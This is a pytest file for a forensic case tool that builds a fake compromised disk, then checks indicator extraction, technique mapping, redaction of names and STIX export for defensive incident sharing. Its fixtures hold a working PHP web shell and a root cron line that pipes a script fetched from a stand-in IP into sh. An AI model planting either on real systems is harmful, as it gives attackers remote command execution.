"""From a disk with a web shell to what is told of it."""

from __future__ import annotations

import json

import pytest

from pratique.case.examine import examine
from pratique.case.folder import read
from pratique.case.redaction import redacted
from pratique.case.sharing import TLP, Wish, shared
from pratique.report.export import stix
from pratique.story.indicator.indicator import Kind

PASSWD = "root:x:0:0::/root:/bin/sh\nmariarossi:x:1000:1000::/home/mariarossi:/bin/sh\n"
SHELL = "<?php if (isset($_POST['c'])) { system($_POST['c']); } ?>"
CRON = "* * * * * root curl -fsS http://198.51.100.66/k | sh\n"


class Quiet:
    """Takes everything and says nothing."""

    def __getattr__(self, _name):
        return lambda *_: None


@pytest.fixture(scope="module")
def case(tmp_path_factory):
    place = tmp_path_factory.mktemp("shared")
    disk = place / "disk"
    for path, text in {
        "var/www/html/x.php": SHELL,
        "etc/cron.d/x": CRON,
        "etc/passwd": PASSWD,
        "etc/hostname": "rossibakery\n",
        "home/mariarossi/public_html/y.php": SHELL + " ",
    }.items():
        file = disk / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    examine(disk, place / "case", Quiet())
    return read(place / "case")


def test_what_is_told_of_a_disk(case):
    found = shared(case, Wish("CERT", "green"))
    assert (found.machine, found.state, found.author, found.tlp) == (
        "rossibakery", "compromised", "CERT", "green",
    )  # fmt: skip
    assert {one.value for one in found.of_kind(Kind.ADDRESS)} == {"198.51.100.66"}
    assert {one.value for one in found.of_kind(Kind.PATH)} >= {"/var/www/html/x.php"}
    assert len(found.of_kind(Kind.SHA256)) >= 2
    assert "T1505.003" in found.techniques
    assert found.summary


def test_twice_is_the_same(case):
    assert shared(case, Wish()) == shared(case, Wish())


def test_redacted_it_names_nobody(case):
    found = redacted(shared(case, Wish()), case)
    text = stix.document(found)
    assert not {"mariarossi", "rossibakery", "rossi"} & set(text.lower().replace("/", " ").split())
    assert "mariarossi" not in text
    assert "rossibakery" not in text
    assert "198.51.100.66" in text
    assert found.removed["account"]
    assert json.loads(text)["objects"]


def test_the_levels_are_those_that_can_be_written(case):
    for level in TLP:
        assert stix.document(shared(case, Wish(tlp=level)))
